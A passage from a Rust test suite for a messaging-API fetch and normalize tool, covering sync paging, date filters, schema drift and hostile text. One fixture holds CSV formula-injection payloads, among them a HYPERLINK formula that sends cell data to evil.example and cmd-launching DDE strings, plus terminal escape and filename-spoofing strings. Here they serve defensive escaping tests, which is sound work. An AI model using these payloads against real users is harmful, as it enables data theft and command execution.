                                "lastMessageId": page.last().map(|&i| format!("lc{i:+05}"))}),
        )
    });
    let first = sync_run("leadconnector", &server, dir.path(), false, &["--page-size", "10"]);
    assert_eq!(first.code, Some(0), "{}", show(&first));
    head.store(13, Ordering::SeqCst);
    let second = sync_run("leadconnector", &server, dir.path(), false, &["--page-size", "10"]);
    assert_eq!(second.code, Some(0), "{}", show(&second));
    assert_eq!(merged_ids(&second), (-13..0).map(|i| format!("lc{i:+05}")).collect::<Vec<_>>(), "{}", show(&second));
    assert_eq!(merged_ids(&first).len(), 30);
}

/// Bird across two runs with new messages (its `dateFrom` honoured, and
/// ignored): each message once across the runs.
#[test]
fn sync_bird_two_runs_with_new_messages_date_from_honoured_or_ignored() {
    for honour in [true, false] {
        let dir = tempfile::tempdir().unwrap();
        let n = Arc::new(AtomicUsize::new(25));
        let nn = n.clone();
        // Oldest first: message i at time i seconds.
        let bm = |i: usize| {
            let mut m = bird_message(i);
            m["createdAt"] =
                json!(chrono::DateTime::from_timestamp_millis(BASE_MS + i as i64 * 1000).unwrap().to_rfc3339());
            m
        };
        let server = Server::start(move |_, req| {
            let from = req
                .param("dateFrom")
                .filter(|_| honour)
                .map(|d| chrono::DateTime::parse_from_rfc3339(d).unwrap().timestamp_millis() - BASE_MS);
            let all: Vec<usize> =
                (0..nn.load(Ordering::SeqCst)).filter(|&i| from.is_none_or(|f| i as i64 * 1000 > f)).collect();
            let start: usize = req.param("pageToken").map_or(0, |t| t.parse().unwrap());
            let page: Vec<usize> = all.iter().copied().skip(start).take(10).collect();
            let next = if start + 10 < all.len() { (start + 10).to_string() } else { String::new() };
            Reply::Json(
                200,
                json!({"results": page.iter().map(|&i| bm(i)).collect::<Vec<_>>(), "nextPageToken": next, "total": all.len()}),
            )
        });
        let first = sync_run("bird", &server, dir.path(), false, &["--page-size", "10"]);
        assert_eq!(first.code, Some(0), "{}", show(&first));
        n.store(32, Ordering::SeqCst);
        let second = sync_run("bird", &server, dir.path(), false, &["--page-size", "10"]);
        eprintln!("[bird sync honour={honour}] {}", show(&second));
        let mut both = merged_ids(&first);
        both.extend(merged_ids(&second));
        assert_eq!(second.code, Some(0), "{}", show(&second));
        assert_eq!(both, bird_ids(32), "dateFrom honoured: {honour}");
    }
}

fn bird_ids(n: usize) -> Vec<String> {
    (0..n).map(|i| format!("b{i:04}")).collect()
}

// ---------------------------------------------------------------- 4. --since

fn at(ms: i64) -> String {
    chrono::DateTime::from_timestamp_millis(BASE_MS + ms).unwrap().to_rfc3339()
}

/// Infobip's `createdAfter` ignored (every message served): a typed error,
/// never the older messages with exit 0.
#[test]
fn since_infobip_filter_ignored() {
    for c in ["1", "4"] {
        let list = Arc::new(Mutex::new(ib_listing(60, 1000)));
        let server = ib_server(list.clone(), IbFaults { ignore_after: Some(|_| true), ..IbFaults::default() });
        let run = fetch("infobip", &server, &["--page-size", "10", "--concurrency", c, "--since", &at(30_000)], None);
        eprintln!("[since infobip ignored c{c}] {}", show(&run));
        let expected: Vec<String> = (30..60).map(|i| format!("ib{i:04}")).collect();
        promise("since infobip ignored", &run, &expected);
    }
}

/// Bird's `dateFrom` ignored, the listing oldest first, or in no order:
/// exactly the messages at or after `since`, in the order served.
#[test]
fn since_bird_date_from_ignored() {
    for shuffled in [false, true] {
        let order: Vec<usize> = if shuffled { (0..40).map(|i| (i * 17) % 40).collect() } else { (0..40).collect() };
        let o = order.clone();
        let server = Server::start(move |_, req| {
            let start: usize = req.param("pageToken").map_or(0, |t| t.parse().unwrap());
            let page: Vec<Value> = o
                .iter()
                .skip(start)
                .take(10)
                .map(|&i| {
                    let mut m = bird_message(i);
                    m["createdAt"] = json!(at(i as i64 * 1000));
                    m
                })
                .collect();
            let next = if start + 10 < 40 { (start + 10).to_string() } else { String::new() };
            Reply::Json(200, json!({"results": page, "nextPageToken": next, "total": 40}))
        });
        let run = fetch("bird", &server, &["--page-size", "10", "--since", &at(25_000)], None);
        eprintln!("[since bird shuffled={shuffled}] {}", show(&run));
        let expected: Vec<String> = order.iter().filter(|&&i| i >= 25).map(|&i| format!("b{i:04}")).collect();
        assert_eq!(run.code, Some(0), "{}", show(&run));
        promise("since bird", &run, &expected);
    }
}

// ---------------------------------------------------------------- 5. normalizer drift, hostile text

/// `convo normalize VENDOR` of one body on stdin.
fn normalize(vendor: &str, body: &[u8], extra: &[&str]) -> Run {
    let mut command = convo();
    command.timeout(Duration::from_secs(60));
    command.args(["normalize", vendor]).args(extra).write_stdin(body.to_vec());
    run(&mut command)
}

/// Every message of `body` comes out, in order, each with its raw JSON;
/// exactly the `odd` ones (by index) with a `decode_error`; `--strict`
/// fails when any is odd.
fn drift(vendor: &str, body: Value, list: &str, odd: &[usize]) {
    let bytes = serde_json::to_vec(&body).unwrap();
    let n = if list.is_empty() { body.as_array().unwrap().len() } else { body[list].as_array().unwrap().len() };
    let run = normalize(vendor, &bytes, &[]);
    assert_eq!(run.code, Some(0), "{vendor}: {}", show(&run));
    let lines = run.ndjson();
    assert_eq!(lines.len(), n, "{vendor}: every message out: {}", show(&run));
    for (i, line) in lines.iter().enumerate() {
        assert!(line.get("raw").is_some_and(|r| !r.is_null()), "{vendor} #{i}: no raw: {line}");
        let undecodable = line.get("decode_error").is_some_and(|e| !e.is_null());
        assert_eq!(undecodable, odd.contains(&i), "{vendor} #{i}: decode_error {undecodable}: {line}");
    }
    let strict = normalize(vendor, &bytes, &["--strict"]);
    if odd.is_empty() {
        assert_eq!(strict.code, Some(0), "{vendor} --strict: {}", show(&strict));
    } else {
        assert_ne!(strict.code, Some(0), "{vendor} --strict with an undecodable message: {}", show(&strict));
    }
}

#[test]
fn drift_infobip_timestamps_content_types_enums_wrong_types() {
    let mut messages = Vec::new();
    for (i, t) in [
        "2026-01-01T00:00:00Z",
        "2026-01-01T00:00:00.1Z",
        "2026-01-01T00:00:00.123456789Z",
        "2026-01-01T00:00:00.123+0000",
        "2026-01-01T00:00:00.123+00:00",
        "2026-01-01T01:00:00.123+0100",
    ]
    .iter()
    .enumerate()
    {
        let mut m = ib_json(&ibm(format!("ib{i}"), 0));
        m["createdAt"] = json!(t);
        messages.push(m);
    }
    let mut m = ib_json(&ibm("ib-image", 0));
    m["contentType"] = json!("IMAGE");
    m["content"] = json!({"url": "https://x/y.png", "caption": "c"});
    messages.push(m);
    let mut m = ib_json(&ibm("ib-unknown-type", 0));
    m["contentType"] = json!("HOLOGRAM");
    m["content"] = json!({"beam": [1, 2]});
    messages.push(m);
    let mut m = ib_json(&ibm("ib-unknown-enums", 0));
    m["channel"] = json!("CARRIER_PIGEON");
    m["direction"] = json!("SIDEWAYS");
    messages.push(m);
    let mut m = ib_json(&ibm("ib-text-number", 0));
    m["content"] = json!({"text": 42});
    messages.push(m);
    let mut m = ib_json(&ibm("ib-no-offset", 0));
    m["createdAt"] = json!("2026-01-01T00:00:00.000");
    messages.push(m);
    let mut m = ib_json(&ibm("ib-from-object", 0));
    m["from"] = json!({"phone": "1"});
    messages.push(m);
    let body = json!({"messages": messages, "pagination": {"totalItems": 12, "page": 0, "limit": 20}});
    // A number for a text, a time without an offset, an object for an
    // address cannot be decoded (their raw JSON is kept).
    let run = normalize("infobip", &serde_json::to_vec(&body).unwrap(), &[]);
    eprintln!(
        "[infobip drift] {}",
        run.stdout
            .lines()
            .map(|l| {
                let v: Value = serde_json::from_str(l).unwrap();
                format!("{} {} {}\n", v["raw"]["id"], v["created_at"], v["decode_error"])
            })
            .collect::<String>()
    );
    let odd: Vec<usize> = run
        .ndjson()
        .iter()
        .enumerate()
        .filter(|(_, l)| l.get("decode_error").is_some_and(|e| !e.is_null()))
        .map(|(i, _)| i)
        .collect();
    assert!(odd.iter().all(|&i| i >= 9), "well-formed variants decode: {odd:?}");
    drift("infobip", body, "messages", &odd);
}

#[test]
fn drift_leadconnector_call_duration_number_and_string_and_odd_fields() {
    let mut messages = Vec::new();
    for (i, d) in [json!(120), json!("120"), json!(null), json!("n/a"), json!(12.5)].into_iter().enumerate() {
        let mut m = lc_message(i);
        m["messageType"] = json!("TYPE_CALL");
        m["meta"] = json!({"callDuration": d, "callStatus": "completed"});
        messages.push(m);
    }
    let mut m = lc_message(5);
    m["messageType"] = json!("TYPE_ACTIVITY_OPPORTUNITY");
    m["body"] = Value::Null;
    messages.push(m);
    let mut m = lc_message(6);
    m["dateAdded"] = json!("2026-01-01 00:00:00");
    messages.push(m);
    let mut m = lc_message(7);
    m["attachments"] = json!("https://x/one.png");
    messages.push(m);
    let body = json!({"messages": messages, "nextPage": false, "lastMessageId": "lc0007"});
    let run = normalize("leadconnector", &serde_json::to_vec(&body).unwrap(), &[]);
    eprintln!(
        "[lc drift] {}",
        run.stdout
            .lines()
            .map(|l| {
                let v: Value = serde_json::from_str(l).unwrap();
                format!("{} {} {}\n", v["raw"]["id"], v["created_at"], v["decode_error"])
            })
            .collect::<String>()
    );
    let odd: Vec<usize> = run
        .ndjson()
        .iter()
        .enumerate()
        .filter(|(_, l)| l.get("decode_error").is_some_and(|e| !e.is_null()))
        .map(|(i, _)| i)
        .collect();
    assert!(
        !odd.contains(&0) && !odd.contains(&1) && !odd.contains(&2),
        "callDuration number/string/null decode: {odd:?}"
    );
    drift("leadconnector", body, "messages", &odd);
}

#[test]
fn drift_bird_body_types() {
    let kinds = [
        json!({"type": "html", "html": {"text": "<b>x</b>", "html": "<b>x</b>"}}),
        json!({"type": "image", "image": {"images": [{"mediaUrl": "https://x/i.png"}]}}),
        json!({"type": "file", "file": {"files": [{"mediaUrl": "https://x/f.pdf", "contentType": "application/pdf"}]}}),
        json!({"type": "location", "location": {"coordinates": {"latitude": 1.0, "longitude": 2.0}}}),
        json!({"type": "carousel", "carousel": {"items": []}}),
        json!({"type": "list", "list": {"items": []}}),
        json!({"type": "action", "action": {"actions": []}}),
        json!({"type": "hologram", "hologram": {"x": 1}}),
        json!({"type": "text", "text": {"text": 7}}),
        json!(null),
        json!({"type": 5}),
    ];
    let results: Vec<Value> = kinds
        .iter()
        .enumerate()
        .map(|(i, b)| {
            let mut m = bird_message(i);
            m["body"] = b.clone();
            m
        })
        .collect();
    let body = json!({"results": results, "nextPageToken": "", "total": kinds.len()});
    let run = normalize("bird", &serde_json::to_vec(&body).unwrap(), &[]);
    eprintln!(
        "[bird drift] {}",
        run.stdout
            .lines()
            .map(|l| {
                let v: Value = serde_json::from_str(l).unwrap();
                format!("{} {} {}\n", v["raw"]["id"], v["content"], v["decode_error"])
            })
            .collect::<String>()
    );
    let odd: Vec<usize> = run
        .ndjson()
        .iter()
        .enumerate()
        .filter(|(_, l)| l.get("decode_error").is_some_and(|e| !e.is_null()))
        .map(|(i, _)| i)
        .collect();
    assert!(odd.iter().all(|&i| i >= 8), "documented and unknown kinds decode: {odd:?}");
    drift("bird", body, "results", &odd);
}

/// A lone surrogate (`\ud800`, valid JSON syntax, not a Unicode scalar)
/// in one message's text, amid good messages on the page.
#[test]
fn lone_surrogate_in_one_message_costs_only_that_message() {
    let good = |i: usize| serde_json::to_string(&ib_json(&ibm(format!("ib{i:04}"), i as i64 * 1000))).unwrap();
    let odd = good(1).replace("\"t ib0001\"", "\"bad \\ud800 text\"");
    let body = format!(
        r#"{{"messages":[{},{},{}],"pagination":{{"totalItems":3,"page":0,"limit":10}}}}"#,
        good(0),
        odd,
        good(2)
    );
    let run = normalize("infobip", body.as_bytes(), &[]);
    eprintln!("[surrogate normalize] {}", show(&run));
    assert_eq!(run.code, Some(0), "{}", show(&run));
    assert_eq!(run.stdout.lines().count(), 3, "{}", show(&run));
    // And through fetch, with csv and table.
    let b = body.clone();
    let server = Server::start(move |_, req| {
        if req.param("createdAfter").is_some() {
            Reply::Json(200, json!({"messages": [], "pagination": {"totalItems": 0, "page": 0, "limit": 10}}))
        } else {
            Reply::Raw(200, vec![], b.clone().into_bytes())
        }
    });
    for format in ["ndjson", "csv", "table"] {
        let run = fetch("infobip", &server, &["--page-size", "10", "--format", format], None);
        eprintln!("[surrogate {format}] {}", show(&run));
        assert_eq!(run.code, Some(0), "{format}: {}", show(&run));
        assert!(run.stdout.contains("t ib0002") && run.stdout.contains("t ib0000"), "{format}: {}", run.stdout);
    }
}

fn hostile_text_page() -> Value {
    let texts = [
        "line one\nline two\r\nline three",
        "a, b, \"quoted\", c",
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
        "+1+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\u{1b}[2J\u{1b}]0;pwned\u{7}bell\u{0}nul",
        "\u{202e}gnp.exe",
    ];
    let mut messages: Vec<Value> = texts
        .iter()
        .enumerate()
        .map(|(i, t)| {
            let mut m = ib_json(&ibm(format!("ib{i:04}"), i as i64 * 1000));
            m["content"] = json!({"text": t});
            m
        })
        .collect();
    let mut long = ib_json(&ibm("ib-long", 10_000));
    long["content"] = json!({"text": "x".repeat(200_000)});
    messages.push(long);
    json!({"messages": messages, "pagination": {"totalItems": messages.len(), "page": 0, "limit": 20}})
}

/// CSV of hostile text: one record per message, every field read back as
/// it was (newlines, commas, quotes, control characters, 200 kB).
#[test]
fn csv_of_hostile_text_round_trips() {
    let body = serde_json::to_vec(&hostile_text_page()).unwrap();
    let run = normalize("infobip", &body, &["--format", "csv"]);
    assert_eq!(run.code, Some(0), "{}", show(&run));
    let mut reader = csv::Reader::from_reader(run.stdout.as_bytes());
    let headers = reader.headers().unwrap().clone();
    let text_at = headers.iter().position(|h| h == "text").unwrap();
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    let page = hostile_text_page();
    assert_eq!(rows.len(), page["messages"].as_array().unwrap().len());
    for (row, m) in rows.iter().zip(page["messages"].as_array().unwrap()) {
        let text = m["content"]["text"].as_str().unwrap();
        // A cell that would run as a formula is written with a leading `'`.
        let expected = if text.starts_with(['=', '+', '@']) { format!("'{text}") } else { text.to_owned() };
        assert_eq!(row.get(text_at).unwrap(), expected);
    }
}

/// Was: CSV formula injection: a message text starting with `=`, `+`, `-`
/// or `@` was written into the `text` cell as is (`=HYPERLINK(...)`), so a
/// spreadsheet opening `convo fetch --format csv` evaluated text a third
/// party chose. Now such a cell gets a leading `'` (OWASP's advice).
#[test]
fn csv_cells_that_would_run_as_formulas_get_a_leading_quote() {
    let body = serde_json::to_vec(&hostile_text_page()).unwrap();
    let run = normalize("infobip", &body, &["--format", "csv"]);
    assert_eq!(run.code, Some(0), "{}", show(&run));
    let mut reader = csv::Reader::from_reader(run.stdout.as_bytes());
    let text_at = reader.headers().unwrap().iter().position(|h| h == "text").unwrap();
    for row in reader.records().map(Result::unwrap) {
        let cell = row.get(text_at).unwrap();
        assert!(!cell.starts_with(['=', '+', '-', '@']), "a spreadsheet evaluates this cell as a formula: {cell:?}");
    }
}

/// Table of hostile text: one line per message, no control character
/// (terminal escapes) reaches the terminal, long text clipped.
#[test]
fn table_of_hostile_text_is_one_clean_line_a_message() {
    let body = serde_json::to_vec(&hostile_text_page()).unwrap();
    let run = normalize("infobip", &body, &["--format", "table"]);
    assert_eq!(run.code, Some(0), "{}", show(&run));
    let lines: Vec<&str> = run.stdout.lines().collect();
    assert_eq!(lines.len(), 1 + hostile_text_page()["messages"].as_array().unwrap().len(), "{}", run.stdout);
    for line in &lines {
        assert!(!line.chars().any(|c| c.is_control()), "a control character: {line:?}");
        assert!(line.chars().count() < 400, "clipped: {} chars", line.chars().count());
    }
}
